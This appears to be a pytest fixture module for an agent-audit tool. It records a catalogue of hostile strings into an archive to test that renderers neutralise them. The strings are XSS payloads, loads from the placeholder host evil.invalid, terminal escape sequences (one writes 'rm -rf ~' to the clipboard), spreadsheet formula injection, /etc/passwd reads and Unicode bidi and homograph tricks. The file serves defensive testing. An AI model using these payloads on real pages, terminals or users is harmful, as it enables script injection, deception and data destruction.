r"""Texts that try to be obeyed by whatever shows them: HTML, terminals, readers' eyes.

Each is recorded as an agent could send it, in every place that an agent, its user or a target
chooses: statement, parameter, result, name of a column, all fields of errors and notices, and the
names of user, agent, run, application, table and setting. And in places that only people choose:
rules, reasons, approvers, legal holds, classes of retention, notes. Whatever draws an archive is
tried on them: `record_hostile` makes the archive.
What runs sets `window.aaPwned`, or asks for an address below `evil.invalid`.

Sources: OWASP "XSS Filter Evasion Cheat Sheet"; ECMA-48 and xterm's "Control Sequences"; Unicode
UAX 9 and CVE-2021-42574; CWE-1236 for what a table calculates; CWE-79, CWE-150.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Collection
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from uuid import UUID, uuid4

import pytest

from agentaudit.analysis.annotations import Annotations, beside, records_of
from agentaudit.analysis.printable import printable
from agentaudit.archive import canonical
from agentaudit.archive.recorder import Recorder
from agentaudit.archive.retention import DAY_US
from agentaudit.model import Command, Event, Flag, Kind, SessionFacts, Side, Span
from tests.analysis.recording import (
    TEXT,
    Recorded,
    Script,
    ScriptedClock,
    play,
    start_recorder,
)
from tests.protocols import wire

RUN = "window.aaPwned=1"


@dataclass(frozen=True, slots=True)
class Case:
    """A text, by what it tries."""

    name: str
    text: str


MARKUP = (
    Case("script", f"<script>{RUN}</script>"),
    Case("script in capitals", f"<SCRIPT>{RUN}</SCRIPT>"),
    Case("script without an end", f"<script>{RUN}//"),
    Case("script by address", "<script src=https://evil.invalid/x.js></script>"),
    Case("script of a module", f'<script type="module">{RUN}</script>'),
    Case("nested script", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    Case("broken image", f"<img src=x onerror='{RUN}'>"),
    Case("image from elsewhere", "<img src=https://evil.invalid/pixel.gif>"),
    Case("slash for a blank", f"<img/src=x/onerror={RUN}>"),
    Case("vector image", f"<svg onload={RUN}></svg>"),
    Case("script in a vector image", f"<svg><script>{RUN}</script></svg>"),
    Case("animation", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"),
    Case("frame with a document", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    Case("frame with an address", f"<iframe src='javascript:parent.{RUN}'></iframe>"),
    Case("object", "<object data=https://evil.invalid/x.swf></object>"),
    Case("link that runs", f"<a href='javascript:{RUN}'>harmless</a>"),
    Case("link with a tab in its scheme", f"<a href='java\tscript:{RUN}'>harmless</a>"),
    Case("details", f"<details open ontoggle={RUN}>"),
    Case("focus", f"<input autofocus onfocus={RUN}>"),
    Case("form", "<form action=https://evil.invalid/><button>Log in</button></form>"),
    Case("refresh", "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>"),
    Case("base", "<base href=https://evil.invalid/>"),
    Case("style sheet", "<link rel=stylesheet href=https://evil.invalid/x.css>"),
    Case("import in a style", "<style>@import url(https://evil.invalid/x.css)</style>"),
    Case("background", "<p style='background:url(https://evil.invalid/x.png)'>"),
    Case("preload", "<link rel=preload as=image href=https://evil.invalid/x.png>"),
    Case("template", f"<template><script>{RUN}</script></template>"),
    Case("noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    Case("mathematics", f"<math><mtext><img src=x onerror={RUN}></mtext></math>"),
    # What ends the element that it may have been put into.
    Case("end of a pre", f"</pre><script>{RUN}</script>"),
    Case("end of a style", f"</style><script>{RUN}</script>"),
    Case("end of a script", f"</script><script>{RUN}</script>"),
    Case("end of a title", f"</title><script>{RUN}</script>"),
    Case("end of a textarea", f"</textarea><script>{RUN}</script>"),
    Case("end of a cell", f"</td></tr></table><script>{RUN}</script>"),
    Case("end of a comment", f"--><script>{RUN}</script><!--"),
    Case("end of character data", f"]]><script>{RUN}</script>"),
    Case("end of an attribute", f'" onmouseover="{RUN}" x="'),
    Case("end of an attribute in single quotes", f"' onmouseover='{RUN}' x='"),
    Case("template language", "{{ self.__init__.__globals__ }} {% raw %} {# x #}"),
    Case("template literal", f"${{{RUN}}} `${{{RUN}}}`"),
    Case("entities", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;"),
    # What MathJax typesets, which Jupyter and nbconvert load: a link, and letters in white.
    Case("formula that runs", f"$\\href{{javascript:{RUN}}}{{harmless}}$"),
    Case("formula in white", "\\(\\color{white}{DROP}\\) $$\\text{SELECT}$$"),
    Case("code of Python", f"'''\"\"\"\\\n%%javascript\n{RUN}\n!curl evil.invalid"),
    Case("markdown", f"[harmless](javascript:{RUN}) ![](https://evil.invalid/x.png)"),
    Case("typst", '#eval("1") #read("/etc/passwd") #image("x") = Heading <label> $ x^2 $ \\'),
    Case("a carried file", '<pre data-file="SHA256SUMS">\nQUFB\n</pre>'),
)

TERMINAL = (
    Case("clear the screen", "\x1b[2J\x1b[1;1Hgone"),
    Case("title of the window", "\x1b]0;owned\x07"),
    Case("hyperlink", "\x1b]8;;https://evil.invalid/\x07harmless\x1b]8;;\x07"),
    Case("clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    Case("report of the cursor", "\x1b[6n\x1b[c"),
    Case("device control", "\x1bP+q544e\x1b\\"),
    Case("colour on itself", "\x1b[30;40mhidden\x1b[0m"),
    Case("eight-bit controls", "\x9b2J\x9d0;owned\x9c"),
    Case("carriage return", "DROP TABLE users; --\rSELECT 1 -- harmless   "),
    Case("backspaces", "rm -rf /\b\b\b\b\b\b\b\bls      "),
    Case("bell and delete", "\x07\x7f\x0b\x0c"),
)

EYES = (
    Case("right to left override", "SELECT '\u202etxt.exe'"),
    Case("isolates", "/*\u2067 harmless \u2066*/ DROP TABLE users"),
    Case("zero width", "DR\u200bOP\u2060 TA\u200dBLE\ufeff users"),
    Case("soft hyphen", "DEL\u00adETE"),
    Case("line and paragraph separators", "one\u2028two\u2029three"),
    Case("tags", "harmless\U000e0041\U000e0042\U000e007f"),
    Case("variation selectors", "x\ufe0f\U000e0100\U000e01ef"),
    Case("noncharacters", "\ufffe\uffff\U0001ffff"),
    Case("homographs", "ѕеlесt раsswоrd frоm usеrs"),
    Case(
        "scripts of the world",
        "日本語 עברית العربية ไทย हिन्दी 한국어 😀 \U0001f469\u200d\U0001f4bb",
    ),
    Case("many marks", "Z" + "\u0335\u0322\u0317" * 60 + "algo"),
    Case("one long word", "A" * 3_000),
    Case("a formula", '=HYPERLINK("https://evil.invalid/","harmless")'),
    Case("digits elsewhere", "١٢٣ ४५६ 𝟙𝟚𝟛"),
    Case("invalid surrogates, as UTF-8 has them", "\ufffd\ufffd\ufffd"),
)

CASES = MARKUP + TERMINAL + EYES


def visible(text: str) -> tuple[str, str]:
    """Return what a reader sees of recorded text, on several lines and on one; blanks left out."""
    return squeezed(printable(text, block=True)), squeezed(printable(text))


def squeezed(text: str) -> str:
    return re.sub(r"\s", "", text)


def unseen(shown: str, most: int = 280, among: Collection[Case] = CASES) -> list[str]:
    """Return the names of cases of which the first `most` characters are not in what is shown."""
    told = squeezed(shown)
    return [
        case.name for case in among if not any(seen in told for seen in visible(case.text[:most]))
    ]


def policy() -> bytes:
    """Return a policy whose rules, masks and classes are named by the cases."""
    never = {"keep_us": None, "payload_keep_us": None, "notice_us": 7 * DAY_US}
    texts = [case.text for case in CASES]
    return json.dumps(
        {
            "default": "allow",
            "masks": [
                {"name": text, "columns": [text], "action": "redact", "apply": ["archive"]}
                for text in texts
            ],
            "retention": {
                "classes": {text: never | {"keep_us": 30 * DAY_US} for text in texts},
                "targets": {text: text for text in texts},
            },
            "rules": [
                {"name": text, "when": {"table": [text]}, "action": "hold", "approvers": [text]}
                for text in texts
            ],
            "targets": [],
        },
        sort_keys=True,
        separators=(",", ":"),
        ensure_ascii=False,
    ).encode()


def record_hostile(folder: Path) -> Recorded:
    """Record every case in every place; the first session has them as content, the others as names.

    No text of PostgreSQL's protocol has a null character, and no case either.
    """

    async def run() -> Recorded:
        clock = ScriptedClock()
        recorder = await start_recorder(folder, clock)
        digest = recorder.set_policy(policy())
        script = Script()
        for case in CASES:
            _say(script, case.text)
        sessions = [str(play(recorder, clock, script).session_id)]
        for case in CASES:
            clock.us += 1_000_000
            sessions.append(str(_name(recorder, clock, case.text, digest)))
            recorder.record_access(case.text, "search", case.text, case.text)
        for case in CASES:
            held = {"selector": {"target": case.text}}
            text = case.text[:600]  # as long as a gateway takes
            said = {"actor": text, "action": "set", "authority": text, "reason": text}
            event = recorder.record_control(Kind.LEGAL_HOLD, said | held)
            await recorder.order("legal_hold_set", event=event, **held)
        await recorder.stop()
        key = (folder / "keys" / "gw1.vkey").read_text().strip()
        return Recorded(folder / "archive", key, tuple(sessions))

    # On a thread: where a browser is driven, this one has a running loop already.
    with ThreadPoolExecutor(1) as thread:
        recorded = thread.submit(asyncio.run, run()).result()
    notes = [
        record
        for session, case in zip(recorded.sessions[1:], CASES, strict=True)
        for record in records_of(
            UUID(session), None, note=case.text, tag=None, star=None, author="ana"
        )
    ]
    Annotations(beside(recorded.path)).append(notes)
    return recorded


@pytest.fixture(scope="session")
def hostile_archive(tmp_path_factory: pytest.TempPathFactory) -> Recorded:
    """An archive with every case in every place. Nobody may change it."""
    return record_hostile(tmp_path_factory.mktemp("hostile"))


def _say(script: Script, text: str) -> None:
    """Add two commands whose every text, of a client and of a server, is this one."""
    script.query(
        f"SELECT '{text}' /* {text} */",
        columns=[(text[:60], TEXT), ("plain", TEXT)],
        rows=[[text, "1"], [b"\xff\xfe" + text.encode(), None]],
    )
    asked = script.exchanges[-1]
    told = (wire.notice(text), wire.parameter_status(text, text), wire.notification(text, text))
    asked.answered = b"".join(told) + asked.answered
    script.prepared("SELECT $1", [text, None], error=("42601", text))
    asked = script.exchanges[-1]
    # Message, detail, hint, context, schema, table, column, type and constraint of an error.
    fields = {"S": "ERROR", "V": "ERROR", "C": "42601"} | dict.fromkeys("MDHWstcdn", text)
    failed = b"".join(wire.string(name + value) for name, value in fields.items()) + b"\0"
    before = wire.error("42601", text)
    assert before in asked.answered
    asked.answered = asked.answered.replace(before, wire.message("E", failed))


def _name(recorder: Recorder, clock: ScriptedClock, text: str, digest: str) -> UUID:
    """Record a session that is named so, and a command of it that a rule of this name held."""
    session = recorder.open_session(
        SessionFacts(
            protocol="postgres",
            target=text,
            user=text,
            issuer=text,
            email=text,
            groups=(text, "data-agents"),
            agent=text,
            actor_chain=(text,),
            run_id=text,
            labels={text: text},
            client_addr="127.0.0.1:50000",
            client_app=text,
            policy_digest=digest,
        )
    )
    command = Command(
        command_no=0,
        text=text,
        params=(text, None),
        operation=text,
        cls="write",
        resources=(text,),
        risk=(text,),
        decision="hold",
        rule=text,
        request_id=uuid4(),
        status="error",
        error_code=text[:40],
        error_text=text,
        rows_affected=0,
        masked=1,
    )
    session.begin(command)
    asked = wire.query(text)
    session.record(
        Event(
            kind=Kind.REQUEST,
            side=Side.CLIENT,
            command_no=0,
            text=text,
            payload=asked,
            orig_len=len(asked),
            spans=(Span(text, "text", 0, 1),),
            flags=Flag.MASKED,
        )
    )
    members = {
        "request_id": str(command.request_id),
        "kind": "hold",
        "session_id": str(session.session_id),
        "command_no": 0,
        "requester": text,
        "target": text,
        "rule": text,
        "requested_at": clock.us,
        "decided_at": clock.us + 1_000,
        "state": "denied",
        "approvers": [text],
        "reasons": [text],
    }
    session.record(Event(kind=Kind.DECISION, command_no=0, payload=canonical.encode(members)))
    answer = wire.error("42501", text)
    session.record(
        Event(
            kind=Kind.RESPONSE,
            side=Side.TARGET,
            command_no=0,
            text=text,
            payload=answer,
            orig_len=len(answer),
        )
    )
    session.end(command)
    session.close(text[:40])
    return session.session_id
